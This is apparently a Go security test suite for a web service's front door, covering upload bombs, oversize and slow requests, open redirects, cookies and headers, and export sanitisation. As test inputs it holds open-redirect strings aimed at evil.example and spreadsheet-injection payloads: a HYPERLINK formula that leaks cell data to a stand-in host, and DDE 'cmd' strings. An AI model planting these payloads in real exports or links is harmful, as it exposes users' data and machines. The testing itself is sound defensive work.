package web_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"mime/multipart"
	"net"
	"net/http"
	"net/http/httptest"
	"net/textproto"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"

	"baocun"
	"baocun/policy"
	"baocun/sheet"
	"baocun/sheet/sheettest"
	"baocun/sqldb/sqldbtest"
	"baocun/web"
)

// The security suite's attacks on the front door: uploads and bodies, slow clients,
// redirects, exports, cookies and headers (the accounts' attacks are in
// security_accounts_test.go). Each runs through runAttack: it asserts its refusal,
// and the harness that the heap rose by less than attackBudget and nothing of the
// service's state was written.

// TestSecurityFrontDoor runs the attacks in turn on one service (a Temporal test
// server takes seconds to start under the race detector). The formula cells go last:
// they rename a department and a village.
func TestSecurityFrontDoor(t *testing.T) {
	if testing.Short() {
		t.Skip("the full run's (every attack on the front door): go test ./...")
	}
	f := newFixture(t, sqldbtest.SQLiteDSN(t))
	f.openReviews(t) // the task routes' tasks
	tokens := signInAll(t, f)
	f.user("alice", "", "", g("auditor", "*"))
	for _, a := range []struct {
		name string
		run  func(*testing.T, *fixture, map[string]string)
	}{
		{"upload bombs", securityUploadBombs},
		{"launch pairings flood", securityLaunchPairingsFlood},
		{"oversize bodies", securityOversizeBodies},
		{"no body read before authorization", securityNoBodyReadBeforeAuthorization},
		{"slow clients", securitySlowClients},
		{"open redirects", securityOpenRedirects},
		{"cookies and headers", securityCookiesAndHeaders},
		{"formula cells in exports", securityFormulaCellsInExports},
	} {
		t.Run(a.name, func(t *testing.T) { a.run(t, f, tokens) })
	}
}

// counting is a request body that counts what the service read of it.
type counting struct {
	r io.Reader
	n atomic.Int64
}

func (c *counting) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n.Add(int64(n))
	return n, err
}

// serveIn sends a request to h in-process (so the test sees exactly what was read
// of the body): its length declared, or unknown (chunked) when length < 0.
func serveIn(h http.Handler, token, method, path, contentType string, body []byte, length int64) (int, string, int64) {
	b := &counting{r: bytes.NewReader(body)}
	req := httptest.NewRequest(method, path, b)
	req.ContentLength = length
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	return rec.Code, rec.Body.String(), b.n.Load()
}

// signInAll creates every actor's account and signs each in.
func signInAll(t *testing.T, f *fixture) map[string]string {
	tokens := map[string]string{}
	for _, a := range actors {
		if a.name == "anonymous" {
			continue
		}
		f.user(a.name, a.person, a.village, a.roles...)
		tokens[a.name] = f.login(f.srv, a.name)
	}
	return tokens
}

func refused(status int) bool {
	return status == http.StatusUnauthorized || status == http.StatusForbidden
}

// upload is one way to send a file to an upload route.
type upload struct {
	name, path string
	allowed    []string // actors who get past the gate
	status     int      // what an allowed actor's bomb gets
	form       func(b sheettest.Bomb) (contentType string, body []byte)
	// unread: the route reads the body but never as a file, so the bombs go as one
	// attack (each attack's collection is most of its cost).
	unread bool
}

func multipartFile(settings string) func(b sheettest.Bomb) (string, []byte) {
	return func(b sheettest.Bomb) (string, []byte) {
		var buf bytes.Buffer
		w := multipart.NewWriter(&buf)
		if settings != "" {
			w.WriteField("settings", settings)
		}
		h := textproto.MIMEHeader{}
		h.Set("Content-Disposition", `form-data; name="file"; filename="upload"`)
		h.Set("Content-Type", b.ContentType)
		fw, _ := w.CreatePart(h)
		fw.Write(b.Data)
		w.Close()
		return w.FormDataContentType(), buf.Bytes()
	}
}

func raw(b sheettest.Bomb) (string, []byte) { return b.ContentType, b.Data }

// uploads are every upload route, in every form it takes a file.
var uploads = func() []upload {
	settings := `{"name":"炸弹 bomb","jurisdiction":"县A","start_date":"2030-01-01"}`
	out := []upload{
		{name: "launch multipart", path: "/api/v1/cycles", allowed: []string{"organiser", "organiser_a"}, status: 422, form: multipartFile(settings)},
		// A launch's body is JSON unless multipart: a workbook sent as the body is never unpacked.
		{name: "launch body", path: "/api/v1/cycles", allowed: []string{"organiser", "organiser_a"}, status: 400, form: raw, unread: true},
	}
	// Each import gets every bomb, and each form every bomb (the forms share one reader
	// after the body is read: every pair would only repeat the slowest bombs).
	for _, imp := range []struct{ kind, form string }{{"departments", "body"}, {"villages", "multipart"}, {"people", "body"}, {"people", "multipart"}} {
		form := raw
		if imp.form == "multipart" {
			form = multipartFile("")
		}
		out = append(out, upload{name: "import " + imp.kind + " " + imp.form, path: "/api/v1/import/" + imp.kind, allowed: []string{"organiser"}, status: 422, form: form})
	}
	return out
}()

// Decompression bombs of every kind, and files over each of sheet's limits, against
// every upload route in every form, as every role: whoever may not use the route is
// refused without a byte of the body read; whoever may is refused with the limit
// named (422, with the file's row), within the heap budget (how soon: sheet's
// BenchmarkReadBombs).
func securityUploadBombs(t *testing.T, f *fixture, tokens map[string]string) {
	h := f.handler()
	bombs := sheettest.Bombs()
	// check sends b as actor and asserts its refusal: unread, for an actor the route
	// refuses; else with u's status (for a file, naming the limit in its row), at once.
	type sent struct {
		contentType string
		body        []byte
	}
	check := func(t *testing.T, u upload, actor string, b sheettest.Bomb, s sent) {
		ct, body := s.contentType, s.body
		if !allowed(u.allowed, actor) {
			status, resp, read := serveIn(h, tokens[actor], "POST", u.path, ct, body, -1)
			if !refused(status) || read != 0 {
				t.Errorf("%s as %s: %d after reading %d bytes, want 401 or 403 with none read: %.300s", b.Name, actor, status, read, resp)
			}
			return
		}
		status, resp, _ := serveIn(h, tokens[actor], "POST", u.path, ct, body, int64(len(body)))
		if status != u.status {
			t.Errorf("%s: %d, want %d: %.400s", b.Name, status, u.status, resp)
			return
		}
		if u.status == 422 {
			var out struct {
				Error struct {
					Rows []baocun.RowError `json:"rows"`
				} `json:"error"`
			}
			json.Unmarshal([]byte(resp), &out)
			if len(out.Error.Rows) != 1 || !strings.Contains(out.Error.Rows[0].Message, b.Want) {
				t.Errorf("%s: rows %+v, want one naming %q", b.Name, out.Error.Rows, b.Want)
			}
		}
	}
	for _, u := range uploads {
		// The requests are made before the attacks, so the heap measured is the service's.
		forms := make([]sent, len(bombs))
		for i, b := range bombs {
			forms[i].contentType, forms[i].body = u.form(b)
		}
		// Everyone the route refuses, with every bomb: nothing of any is read.
		runAttack(t, f, u.name+" as everyone refused", func(t *testing.T) {
			for _, a := range actors {
				if !allowed(u.allowed, a.name) {
					for i, b := range bombs {
						check(t, u, a.name, b, forms[i])
					}
				}
			}
		})
		for _, actor := range u.allowed {
			if u.unread {
				runAttack(t, f, u.name+" as "+actor, func(t *testing.T) {
					for i, b := range bombs {
						check(t, u, actor, b, forms[i])
					}
				})
				continue
			}
			for i, b := range bombs {
				runAttack(t, f, u.name+" as "+actor+": "+b.Name, func(t *testing.T) { check(t, u, actor, b, forms[i]) })
			}
		}
	}
}

// A launch's inline pairings within the body's limit but many: millions of empty
// objects are refused at the pairings a file may have, not held.
func securityLaunchPairingsFlood(t *testing.T, f *fixture, tokens map[string]string) {
	limit := web.RouteBodyLimits()["POST /cycles"]
	head, tail := `{"name":"洪水 flood","jurisdiction":"县A","start_date":"2030-01-01","pairings":[{}`, `]}`
	body := []byte(head + strings.Repeat(",{}", (int(limit)-len(head)-len(tail))/3) + tail)
	runAttack(t, f, "launch with millions of empty pairings", func(t *testing.T) {
		status, resp, _ := serveIn(f.handler(), tokens["organiser"], "POST", "/api/v1/cycles", "application/json", body, int64(len(body)))
		if status != 400 || !strings.Contains(resp, fmt.Sprintf("at most %d", sheet.MaxRows)) {
			t.Fatalf("%d bytes: %d %.300s, want 400 naming the limit of %d pairings", len(body), status, resp, sheet.MaxRows)
		}
	})
}

// A body over its route's limit, on every route that reads one, as a caller the
// route lets through: refused with 413 naming the limit — before a byte is read
// when its length is declared, and at the limit when it is not.
func securityOversizeBodies(t *testing.T, f *fixture, tokens map[string]string) {
	h := f.handler()
	limits := web.RouteBodyLimits()
	done := map[string]bool{}
	for _, c := range cells {
		method, _, _ := strings.Cut(c.route, " ")
		limit, reads := limits[c.route]
		if !reads || done[c.route] || len(c.allowed) == 0 {
			continue
		}
		done[c.route] = true
		who := c.allowed[0]
		switch who {
		case "*":
			who = "anonymous"
		case "signed-in":
			who = "norole"
		}
		want := fmt.Sprintf("%d KiB", limit>>10)
		if limit >= 1<<20 {
			want = fmt.Sprintf("%d MiB", limit>>20)
		}
		declared := bytes.Repeat([]byte("x"), int(limit)+1)
		// Undeclared (chunked), and JSON as far as it goes: read up to the limit only.
		chunked := []byte(`{"reason":"` + strings.Repeat("长", int(limit)/3+10))
		runAttack(t, f, c.route+" as "+who, func(t *testing.T) {
			status, resp, read := serveIn(h, tokens[who], method, "/api/v1"+c.path, "application/json", declared, int64(len(declared)))
			if status != 413 || read != 0 || !strings.Contains(resp, `"code":"too_large"`) || !strings.Contains(resp, want) {
				t.Fatalf("declared %d bytes: %d after reading %d: %.300s; want 413 naming %s, none read", len(declared), status, read, resp, want)
			}
			status, resp, read = serveIn(h, tokens[who], method, "/api/v1"+c.path, "application/json", chunked, -1)
			if status == 415 && read == 0 {
				return // a route that takes no JSON (an upload) refuses it unread
			}
			if status != 413 || read > limit+1 || !strings.Contains(resp, want) {
				t.Fatalf("chunked %d bytes: %d after reading %d: %.300s; want 413 naming %s, at most %d read", len(chunked), status, read, resp, want, limit+1)
			}
		})
	}
	for route := range limits {
		if !done[route] {
			t.Errorf("%s reads a body, but no cell of the matrix lets anyone call it", route)
		}
	}
}

// No route reads a body for a caller who may not use it at all: every cell of the
// authorization matrix, as every actor it refuses, with the cell's body padded to a
// mebibyte and counting its reads. Only a caller the route lets through elsewhere (a
// county's organiser launching for the city) may have the body read before the
// refusal — the launch's jurisdiction is in it. A loader that read the body before the
// decision for everyone (as the launch's once did) fails this for every role.
func securityNoBodyReadBeforeAuthorization(t *testing.T, f *fixture, tokens map[string]string) {
	h := f.handler()
	mayUse := func(route, actor string) bool {
		for _, c := range cells {
			if c.route == route && allowed(c.allowed, actor) {
				return true
			}
		}
		return false
	}
	// The bodies are made before the attack, so its heap is the service's alone.
	bodies := make([][]byte, len(cells))
	for i, c := range cells {
		body := []byte("{}")
		if c.body != nil {
			body, _ = json.Marshal(c.body(i))
		}
		bodies[i] = append(body, bytes.Repeat([]byte(" "), 1<<20)...)
	}
	runAttack(t, f, "every refusal", func(t *testing.T) {
		n := 0
		for i, c := range cells {
			method, _, _ := strings.Cut(c.route, " ")
			body := bodies[i]
			for _, a := range actors {
				if allowed(c.allowed, a.name) {
					continue
				}
				status, resp, read := serveIn(h, tokens[a.name], method, "/api/v1"+c.path, "application/json", body, -1)
				if !refused(status) || (read != 0 && !mayUse(c.route, a.name)) {
					t.Errorf("%s %s as %s: %d after reading %d bytes of the body: %.200s", c.route, c.on, a.name, status, read, resp)
				}
				n++
			}
		}
		if n < 300 {
			t.Fatalf("only %d refusals tried", n)
		}
	})
}

// Slow clients against the server exactly as serve builds it (web.NewHTTPServer): a
// body trickled a byte a second, headers trickled, and a keep-alive connection left
// idle are each dropped once their timeout passes.
func securitySlowClients(t *testing.T, f *fixture, _ map[string]string) {
	srv := web.NewHTTPServer(f.handler())
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	addr := ln.Addr().String()

	// trickle writes head, then a byte a second until the server hangs up; it
	// returns when the connection was closed, measured from the start.
	trickle := func(t *testing.T, head string) time.Duration {
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		start := time.Now()
		if _, err := io.WriteString(conn, head); err != nil {
			t.Fatal(err)
		}
		closed := make(chan struct{})
		go func() {
			io.Copy(io.Discard, conn) // a 400 or 408 answer, if any, then the end
			close(closed)
		}()
		tick := time.NewTicker(time.Second)
		defer tick.Stop()
		giveUp := time.After(web.ReadTimeout + 10*time.Second)
		for {
			select {
			case <-closed:
				return time.Since(start)
			case <-tick.C:
				conn.Write([]byte("a"))
			case <-giveUp:
				t.Fatalf("the connection is still open after %s", time.Since(start))
			}
		}
	}
	within := func(t *testing.T, took, limit time.Duration) {
		if took < limit-time.Second || took > limit+3*time.Second {
			t.Fatalf("dropped after %s, want about %s", took, limit)
		}
		t.Logf("dropped after %s (timeout %s)", took.Round(time.Millisecond), limit)
	}
	attacks := []struct {
		name string
		run  func(t *testing.T)
	}{
		{"trickled body", func(t *testing.T) {
			within(t, trickle(t, "POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"), web.ReadTimeout)
		}},
		{"trickled headers", func(t *testing.T) {
			within(t, trickle(t, "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: "), web.ReadHeaderTimeout)
		}},
		{"idle keep-alive connection", func(t *testing.T) {
			conn, err := net.Dial("tcp", addr)
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			io.WriteString(conn, "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
			br := bufio.NewReader(conn)
			resp, err := http.ReadResponse(br, nil)
			if err != nil || resp.StatusCode != 200 {
				t.Fatalf("first request: %v %v", resp, err)
			}
			io.Copy(io.Discard, resp.Body)
			start := time.Now()
			conn.SetReadDeadline(time.Now().Add(web.IdleTimeout + 10*time.Second))
			if n, err := br.Read(make([]byte, 1)); err != io.EOF {
				t.Fatalf("read %d bytes, %v; want the server to close the idle connection", n, err)
			}
			within(t, time.Since(start), web.IdleTimeout)
		}},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			runAttack(t, f, a.name, a.run)
		})
	}
}

// The sign-in page's next goes to a path of this site only: every way of naming
// another site is sent to "/", as the form's target and as the redirect of a visitor
// signed in already.
func securityOpenRedirects(t *testing.T, f *fixture, _ map[string]string) {
	tests := []struct{ next, want string }{
		{"/inbox", "/inbox"},
		{"/pairings/1?tab=team#log", "/pairings/1?tab=team#log"},
		{"/%2F%2Fevil.example", "/%2F%2Fevil.example"}, // an escaped slash stays in the path
		{"", "/"},
		{"//evil.example/x", "/"},
		{"///evil.example", "/"},
		{"/\\evil.example", "/"},
		{"\\\\evil.example", "/"},
		{"/\t/evil.example/x", "/"}, // what /login?next=/%09/evil.example/x decodes to
		{"/\n/evil.example", "/"},
		{"/\r/evil.example", "/"},
		{"/\x00/evil.example", "/"},
		{"/\u3000/evil.example", "/"},
		{"/ /evil.example", "/"},
		{"https:evil.example", "/"},
		{"https://evil.example/", "/"},
		{"javascript:alert(1)", "/"},
		{"evil.example", "/"},
		{" /inbox", "/"},
		{"/inbox\xff", "/"},
	}
	for _, tt := range tests {
		if got := web.LocalPath(tt.next); got != tt.want {
			t.Errorf("LocalPath(%q) = %q, want %q", tt.next, got, tt.want)
		}
	}

	cookie := sessionCookie(t, f, "alice")
	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	runAttack(t, f, "every variant", func(t *testing.T) {
		for _, tt := range tests {
			rawQuery := "next=" + url.QueryEscape(tt.next)
			resp, err := http.Get(f.srv.URL + "/login?" + rawQuery)
			if err != nil {
				t.Fatal(err)
			}
			page, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if want := `data-next="` + htmlAttr(tt.want) + `"`; !strings.Contains(string(page), want) {
				t.Errorf("next=%q: the form's target is not %s", tt.next, want)
			}
			req, _ := http.NewRequest("GET", f.srv.URL+"/login?"+rawQuery, nil)
			req.AddCookie(cookie)
			resp, err = client.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if loc := resp.Header.Get("Location"); resp.StatusCode != http.StatusSeeOther || loc != tt.want {
				t.Errorf("next=%q, signed in: %d to %q, want 303 to %q", tt.next, resp.StatusCode, loc, tt.want)
			}
		}
	})
	// The issue's own example, as a browser sends it.
	resp, err := http.Get(f.srv.URL + "/login?next=/%09/evil.example/x")
	if err != nil {
		t.Fatal(err)
	}
	page, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if !strings.Contains(string(page), `data-next="/"`) {
		t.Fatalf("/login?next=/%%09/evil.example/x keeps its target")
	}
}

// htmlAttr is s as html/template writes it in a plain attribute.
func htmlAttr(s string) string {
	return strings.NewReplacer("&", "&amp;", "+", "&#43;").Replace(s)
}

// sessionLogin signs name in for a browser session at base, with extra headers.
func sessionLogin(t *testing.T, client *http.Client, base, name string, header http.Header) *http.Response {
	t.Helper()
	b, _ := json.Marshal(map[string]any{"username": name, "password": password, "session": true})
	req, _ := http.NewRequest("POST", base+"/api/v1/auth/login", bytes.NewReader(b))
	for k, v := range header {
		req.Header[k] = v
	}
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("session sign-in: %d", resp.StatusCode)
	}
	return resp
}

// Formula cells planted where the exports will carry them — a username tried at
// sign-in and a user agent (the audit trail), a department's and a village's name (the
// commendation list and rankings) — come out of every export as text: marked in
// CSV, strings in XLSX, never a formula.
func securityFormulaCellsInExports(t *testing.T, f *fixture, tokens map[string]string) {
	const (
		evilName    = `=HYPERLINK("http://evil.example/?leak="&A1,"点我 click")`
		evilAgent   = `@SUM(1+1)*cmd|' /C calc'!A0`
		evilDept    = `+cmd|' /C calc'!A0`
		evilVillage = "-2+3+cmd|' /C calc'!A0"
	)
	ctx := context.Background()
	for _, q := range []string{
		"UPDATE departments SET name = '" + strings.ReplaceAll(evilDept, "'", "''") + "' WHERE code = 'D1'",
		"UPDATE villages SET name = '" + strings.ReplaceAll(evilVillage, "'", "''") + "' WHERE code = 'V1'",
	} {
		if _, err := f.db.ExecContext(ctx, q); err != nil {
			t.Fatal(err)
		}
	}
	total := decimal.RequireFromString("95")
	if err := f.db.ApplyChange(ctx, baocun.Change{At: time.Now(), Result: &baocun.AcceptanceResult{PairingID: 1, CycleID: 1,
		Result: baocun.Result{Total: total, Grade: baocun.GradeExcellent, Goods: map[string]decimal.Decimal{}}, NewClass: 1, ConfirmedBy: "organiser", ConfirmedAt: time.Now()}}); err != nil {
		t.Fatal(err)
	}
	get := func(t *testing.T, token, path string) []byte {
		req, _ := http.NewRequest("GET", f.srv.URL+path, nil)
		req.Header.Set("Authorization", "Bearer "+token)
		req.Header.Set("User-Agent", evilAgent)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != 200 {
			t.Fatalf("GET %s: %d %s", path, resp.StatusCode, b)
		}
		return b
	}
	readCSV := func(t *testing.T, b []byte) [][]string {
		if !bytes.HasPrefix(b, []byte("\xEF\xBB\xBF")) {
			t.Fatalf("CSV without its byte-order mark: %.40q", b)
		}
		recs, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return recs
	}
	// hasMarked finds want, marked, in a cell; and no cell anywhere starts a formula.
	hasMarked := func(t *testing.T, recs [][]string, want string) {
		found := false
		for _, r := range recs {
			for _, v := range r {
				if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
					t.Errorf("a cell starts a formula: %q", v)
				}
				found = found || v == "'"+want
			}
		}
		if !found {
			t.Errorf("no cell holds %q marked as text", want)
		}
	}

	runAttack(t, f, "audit CSV", func(t *testing.T) {
		// The user agent is the trail's, as given. A name tried at sign-in no longer
		// reaches it: one that fits no account (a formula does not) is refused first.
		if s, _ := call(t, f.srv, "", "POST", "/api/v1/auth/login", map[string]string{"username": evilName, "password": "wrong-password-1"}); s != 400 {
			t.Fatalf("sign-in as %q: %d", evilName, s)
		}
		get(t, tokens["auditor"], "/api/v1/audit?limit=1")
		recs := readCSV(t, get(t, tokens["auditor"], "/api/v1/audit/export?format=csv"))
		for _, rec := range recs {
			if slices.Contains(rec, evilName) || slices.Contains(rec, "users/"+evilName) {
				t.Fatalf("a refused name reached the trail: %v", rec)
			}
		}
		hasMarked(t, recs, evilAgent)
	})
	runAttack(t, f, "commendation CSV", func(t *testing.T) {
		hasMarked(t, readCSV(t, get(t, tokens["organiser"], "/api/v1/cycles/1/commendations?format=csv")), evilDept)
	})
	runAttack(t, f, "commendation XLSX", func(t *testing.T) {
		data := get(t, tokens["organiser"], "/api/v1/cycles/1/commendations?format=xlsx")
		x, err := excelize.OpenReader(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		defer x.Close()
		seen := map[string]bool{}
		for _, name := range x.GetSheetList() {
			rows, _ := x.GetRows(name)
			for r, row := range rows {
				for c, v := range row {
					cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
					if formula, _ := x.GetCellFormula(name, cell); formula != "" {
						t.Errorf("%s!%s holds the formula %q", name, cell, formula)
					}
					if typ, _ := x.GetCellType(name, cell); v != "" && strings.ContainsRune("=+-@", rune(v[0])) && typ != excelize.CellTypeInlineString {
						t.Errorf("%s!%s %q is of type %v, not a string", name, cell, v, typ)
					}
					seen[v] = true
				}
			}
		}
		if !seen[evilDept] || !seen[evilVillage] {
			t.Fatalf("the workbook does not carry the names as given (department %v, village %v)", seen[evilDept], seen[evilVillage])
		}
	})
}

// handlerWith is the fixture's service with some of its dependencies set otherwise.
func (f *fixture) handlerWith(set func(*web.Deps)) http.Handler {
	en, err := policy.New(context.Background(), f.db)
	if err != nil {
		f.t.Fatal(err)
	}
	d := web.Deps{Logger: slog.New(slog.NewTextHandler(io.Discard, nil)), Registry: prometheus.NewRegistry(),
		Store: f.db, Authorizer: en, Audit: f.audit, Engine: f.engine}
	set(&d)
	return web.NewServer(d)
}

// The session cookie is Secure when the request came over TLS, directly or through a
// trusted proxy that says so, and HSTS goes with it; a header anyone else sends is
// not believed. Every answer carries nosniff, no framing and a referrer policy; pages
// a Content-Security-Policy with scripts from the site only.
func securityCookiesAndHeaders(t *testing.T, f *fixture, _ map[string]string) {
	const year = 365 * 24 * time.Hour
	https := http.Header{"X-Forwarded-Proto": {"https"}}
	behind := func(proxies ...string) *httptest.Server {
		s := httptest.NewServer(f.handlerWith(func(d *web.Deps) { d.TrustedProxies, d.HSTS = proxies, year }))
		t.Cleanup(s.Close)
		return s
	}
	direct := httptest.NewTLSServer(f.handlerWith(func(d *web.Deps) { d.HSTS = year }))
	t.Cleanup(direct.Close)
	tests := []struct {
		name   string
		srv    *httptest.Server
		header http.Header
		secure bool
	}{
		{"TLS to the service", direct, nil, true},
		{"a trusted proxy's X-Forwarded-Proto: https", behind("127.0.0.1"), https, true},
		{"a trusted proxy's plain HTTP", behind("127.0.0.0/8"), nil, false},
		{"X-Forwarded-Proto from a client that is no proxy", behind("10.0.0.1"), https, false},
		{"X-Forwarded-Proto with no proxy trusted", behind(), https, false},
		// The proxy appends its own value: a client's "https" before it is the client's.
		{"a client's https before the trusted proxy's http", behind("127.0.0.1"), http.Header{"X-Forwarded-Proto": {"https, http"}}, false},
		{"a client's https line before the trusted proxy's http line", behind("127.0.0.1"), http.Header{"X-Forwarded-Proto": {"https", "http"}}, false},
		{"a client's http before the trusted proxy's https", behind("127.0.0.1"), http.Header{"X-Forwarded-Proto": {"http, https"}}, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp := sessionLogin(t, tt.srv.Client(), tt.srv.URL, "alice", tt.header)
			var cookie *http.Cookie
			for _, c := range resp.Cookies() {
				if c.Name == web.SessionCookie {
					cookie = c
				}
			}
			if cookie == nil || cookie.Secure != tt.secure || !cookie.HttpOnly {
				t.Fatalf("cookie %+v, want Secure %v and HttpOnly", cookie, tt.secure)
			}
			hsts := resp.Header.Get("Strict-Transport-Security")
			if (hsts == "max-age=31536000") != tt.secure || (hsts != "") != tt.secure {
				t.Fatalf("Strict-Transport-Security %q over HTTPS=%v", hsts, tt.secure)
			}
		})
	}
	if resp := sessionLogin(t, http.DefaultClient, f.srv.URL, "alice", https); resp.Header.Get("Strict-Transport-Security") != "" {
		t.Fatalf("HSTS sent with --hsts off")
	}

	for _, path := range []string{"/api/v1/auth/me", "/healthz", "/login", "/static/ui.js", "/no-such-page"} {
		resp, err := http.Get(f.srv.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		for k, want := range map[string]string{"X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY", "Referrer-Policy": "same-origin"} {
			if got := resp.Header.Get(k); got != want {
				t.Errorf("%s: %s %q, want %q", path, k, got, want)
			}
		}
		if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "frame-ancestors 'none'") {
			t.Errorf("%s: Content-Security-Policy %q", path, csp)
		}
	}
	resp, err := http.Get(f.srv.URL + "/login")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	csp := resp.Header.Get("Content-Security-Policy")
	scripts := regexp.MustCompile(`script-src ([^;]*)`).FindStringSubmatch(csp)
	if scripts == nil || strings.TrimSpace(scripts[1]) != "'self'" || !strings.Contains(csp, "default-src 'self'") {
		t.Fatalf("the page's Content-Security-Policy %q lets scripts come from elsewhere than the site", csp)
	}
}

// The UI works under its Content-Security-Policy: no template runs a script inline
// (an inline <script> other than a JSON data block, an on… attribute or a javascript:
// URL would be blocked).
func TestUITemplatesNeedNoInlineScript(t *testing.T) {
	files, err := filepath.Glob("ui/templates/*.html")
	if err != nil || len(files) < 5 {
		t.Fatalf("templates: %v %v", files, err)
	}
	script := regexp.MustCompile(`<script\b[^>]*>`)
	handler := regexp.MustCompile(`(?i)\son[a-z]+\s*=`)
	for _, name := range files {
		src, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, tag := range script.FindAllString(string(src), -1) {
			if !strings.Contains(tag, " src=") && !strings.Contains(tag, `type="application/json"`) {
				t.Errorf("%s: inline script %s", name, tag)
			}
		}
		if m := handler.FindString(string(src)); m != "" {
			t.Errorf("%s: inline event handler %q", name, m)
		}
		if strings.Contains(strings.ToLower(string(src)), "javascript:") {
			t.Errorf("%s: a javascript: URL", name)
		}
	}
}

// With --metrics-http, /metrics is served on its own listener and not on the main one.
func TestMetricsElsewhere(t *testing.T) {
	reg := prometheus.NewRegistry()
	h := web.NewServer(web.Deps{Logger: slog.New(slog.NewTextHandler(io.Discard, nil)), Registry: reg, MetricsElsewhere: true})
	if resp, _ := get(t, h, "/healthz"); resp.StatusCode != 200 {
		t.Fatalf("healthz: %d", resp.StatusCode)
	}
	if resp, body := get(t, h, "/metrics"); resp.StatusCode != 404 {
		t.Fatalf("/metrics on the main handler: %d %.200s", resp.StatusCode, body)
	}
	if resp, body := get(t, web.MetricsHandler(reg), "/metrics"); resp.StatusCode != 200 || !strings.Contains(body, "baocun_http_requests_total") {
		t.Fatalf("/metrics on its own: %d %.300s", resp.StatusCode, body)
	}
	byDefault := newServer()
	get(t, byDefault, "/healthz")
	if resp, body := get(t, byDefault, "/metrics"); resp.StatusCode != 200 || !strings.Contains(body, "baocun_http_requests_total") {
		t.Fatalf("/metrics by default: %d %.300s", resp.StatusCode, body)
	}
}
